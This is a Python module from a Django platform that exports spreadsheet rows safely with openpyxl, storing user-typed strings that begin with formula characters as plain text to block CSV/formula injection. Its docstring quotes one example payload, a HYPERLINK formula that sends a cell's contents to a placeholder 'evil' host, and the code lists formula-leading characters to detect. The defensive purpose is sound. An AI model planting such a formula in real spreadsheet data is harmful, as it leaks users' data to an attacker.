"""The one way the platform writes spreadsheet rows (openpyxl): no cell a user typed becomes a formula.

openpyxl stores any string that starts with "=" as a live formula, and Excel / WPS evaluate cells that start
with "+", "-" or "@" (and, through CSV-like paste, a leading tab or carriage return) as formulas too:
`=HYPERLINK("http://evil/?"&A1, "点击")` in a matter name or a dispute reason would run on the clerk's machine
(CSV/formula injection, OWASP). `append_row` writes such strings as plain text (cell type "s") and marks them
with Excel's quote prefix, so Excel and WPS show them as text, a re-import reads back the same characters, and
characters the xlsx format cannot hold (control characters) are dropped instead of failing the export."""

from collections.abc import Iterable
from typing import Any

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r", "\n")


def needs_neutralising(value: Any) -> bool:
    """True for a string a spreadsheet program could take for a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_LEADS)


def clean_text(value: str) -> str:
    """The string without characters an xlsx file cannot hold (openpyxl refuses them)."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    return ILLEGAL_CHARACTERS_RE.sub("", value)


def append_row(ws: Any, values: Iterable[Any]) -> None:
    """ws.append(values), with every string stored as text: never a formula, whatever it starts with."""
    row = [clean_text(v) if isinstance(v, str) else (str(v) if _is_lazy_text(v) else v) for v in values]
    ws.append(row)
    if not row:
        return
    for cell, value in zip(ws[ws.max_row], row, strict=False):
        if needs_neutralising(value):
            cell.value = value
            cell.data_type = "s"  # openpyxl infers "f" for a leading "="; text it stays
            cell.quotePrefix = True  # Excel/WPS: shown and edited as text, like a typed leading apostrophe


def _is_lazy_text(value: Any) -> bool:
    from django.utils.functional import Promise

    return isinstance(value, Promise)


def workbook_bytes(wb: Any) -> bytes:
    from io import BytesIO

    buf = BytesIO()
    wb.save(buf)
    return buf.getvalue()


XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def download(content: bytes, filename: str) -> Any:
    """The HTTP response that downloads a workbook (`workbook_bytes`) as `filename`."""
    from django.http import HttpResponse

    response = HttpResponse(content, content_type=XLSX_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
